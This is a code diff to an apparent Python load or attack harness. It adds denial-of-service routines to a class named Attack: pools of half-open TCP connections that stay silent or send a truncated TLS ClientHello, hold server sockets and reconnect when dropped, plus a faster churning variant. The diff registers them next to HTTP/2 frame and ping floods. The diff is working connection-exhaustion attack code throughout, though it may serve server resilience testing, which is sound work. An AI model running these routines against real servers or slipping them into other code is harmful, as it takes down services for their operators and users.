@@ -23,6 +23,8 @@ MOST_STREAMS = 256
 BATCH = 500
 CONNECT_SECONDS = 10
 HALF_OPEN = 10_000
+# The record's header, and the handshake's.
+CLIENT_HELLO = bytes.fromhex("1603010200010001fc")
 
 
 def frame(kind, stream, data=b"", flags=0):
@@ -160,27 +162,59 @@ class Attack:
         while self.goes_on:
             time.sleep(0.05)
 
+    def stranger(self):
+        """Connects, and does not wait for it."""
+        stranger = socket.socket()
+        stranger.setblocking(False)
+        stranger.connect_ex(self.address)
+        self.connections += 1
+        return stranger
+
     def half_open(self, hello):
-        """Strangers who connect and say nothing, or the beginning of a ClientHello; whoever is given up comes back."""
-        most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
-        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
-        crowd = []
+        """A crowd of strangers who say nothing, or the beginning of a ClientHello, and stay; whoever is given up comes back."""
+        crowd, poll = {}, select.epoll()
+
+        def come():
+            stranger = self.stranger()
+            crowd[stranger.fileno()] = stranger
+            poll.register(stranger, select.EPOLLRDHUP | (select.EPOLLOUT | select.EPOLLONESHOT if hello else 0))
+
+        while len(crowd) < self.crowd_size() and self.goes_on:
+            come()
         while self.goes_on:
-            stranger = socket.socket()
-            stranger.setblocking(False)
-            stranger.connect_ex(self.address)
-            self.connections += 1
-            crowd.append(stranger)
+            for descriptor, what in poll.poll(0.05):
+                stranger = crowd[descriptor]
+                try:
+                    if what & ~select.EPOLLOUT:
+                        raise ConnectionError
+                    stranger.send(hello)
+                    poll.modify(stranger, select.EPOLLRDHUP)
+                except OSError:
+                    del crowd[descriptor]
+                    stranger.close()
+                    come()
+
+    def half_open_in_turn(self, hello):
+        """As many strangers at a time, but each makes room for a new one at once: as fast as a core can connect."""
+        crowd, most = [], self.crowd_size()
+        while self.goes_on:
+            crowd.append(self.stranger())
             if hello:
                 # Once it is connected: a little later than the others.
                 try:
                     crowd[max(0, len(crowd) - 50)].send(hello)
                 except OSError:
                     pass
-            if len(crowd) >= min(HALF_OPEN, most - 100):
+            if len(crowd) >= most:
                 for old in crowd[:100]:
                     old.close()
                 del crowd[:100]
+
+    @staticmethod
+    def crowd_size():
+        most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+        return min(HALF_OPEN, most - 100)
 
     def nothing(self):
         """As much work as an attack's on this core, without a server."""
@@ -197,7 +231,9 @@ ATTACKS = {
     "frames without data": lambda a: a.again_and_again(a.no_data),
     "pings": lambda a: a.again_and_again(a.pings),
     "half open": lambda a: a.half_open(b""),
-    "part of a ClientHello": lambda a: a.half_open(bytes.fromhex("1603010200010001fc")),
+    "part of a ClientHello": lambda a: a.half_open(CLIENT_HELLO),
+    "half open in turn": lambda a: a.half_open_in_turn(b""),
+    "hellos in turn": lambda a: a.half_open_in_turn(CLIENT_HELLO),
 }
 
 
